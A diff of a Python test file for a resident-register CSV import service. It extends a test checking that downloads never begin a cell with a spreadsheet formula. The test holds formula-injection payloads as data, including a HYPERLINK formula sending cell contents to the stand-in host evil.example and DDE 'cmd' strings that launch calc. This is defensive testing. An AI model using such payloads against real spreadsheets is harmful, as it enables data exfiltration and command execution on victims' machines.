@@ -52,13 +52,16 @@ def _job_id(answer: Any) -> str:
     return str(answer.json()["jobs"][0]).rsplit("/", 1)[-1]
 
 
-def _register_csv(values: list[dict[str, str]]) -> bytes:
-    """A UTF-8 register of valid residents, each with the cells given in ``values`` replaced."""
+def _register_csv(values: list[dict[str, str]], extra: str = "备注") -> bytes:
+    """A UTF-8 register of valid residents, each with the cells given in ``values`` replaced.
+
+    ``extra`` is the header of its last column, one the program does not recognise.
+    """
     out = io.StringIO()
     writer = csv.writer(out)
     headers = ["姓名", "性别", "民族", "出生日期", "身份证号", "联系电话", "医疗费用支付方式", "现住址",
                "备注"]  # fmt: skip
-    writer.writerow(headers)
+    writer.writerow([*headers[:-1], extra])
     for serial, changed in enumerate(values):
         _, person = make_resident(serial)
         row = {
@@ -126,7 +129,7 @@ def test_no_cell_of_any_download_starts_a_formula(site: Site) -> None:
     clerk = site.client("clerk_a")
     payloads = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0",
                 "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1+1", "=1+1"]  # fmt: skip
-    register = _register_csv([{"姓名": p, "备注": p, "现住址": p} for p in payloads])
+    register = _register_csv([{"姓名": p, "备注": p, "现住址": p} for p in payloads], extra="=1+1")
     job_id = _job_id(site.upload(clerk, ("公式.csv", register, "text/csv")))
     site.wait(clerk, job_id)
     rows = list(
